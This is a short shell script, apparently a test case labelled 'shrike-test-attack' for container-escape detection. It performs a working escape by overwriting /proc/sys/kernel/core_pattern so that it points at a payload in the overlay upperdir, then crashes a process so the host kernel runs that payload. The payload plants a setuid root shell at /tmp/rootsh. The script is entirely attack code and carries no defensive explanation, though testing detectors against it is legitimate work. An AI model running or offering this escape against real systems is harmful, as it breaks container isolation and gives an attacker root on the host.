#!/bin/sh
# shrike-test-attack: container-escape-recon: core_pattern overwrite escape via overlay upperdir
UP=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/mounts | head -1)
printf '#!/bin/sh\ncp /bin/sh /tmp/rootsh; chmod u+s /tmp/rootsh\n' > /evil && chmod +x /evil
echo "|$UP/evil" > /proc/sys/kernel/core_pattern
sh -c 'kill -SEGV $$'
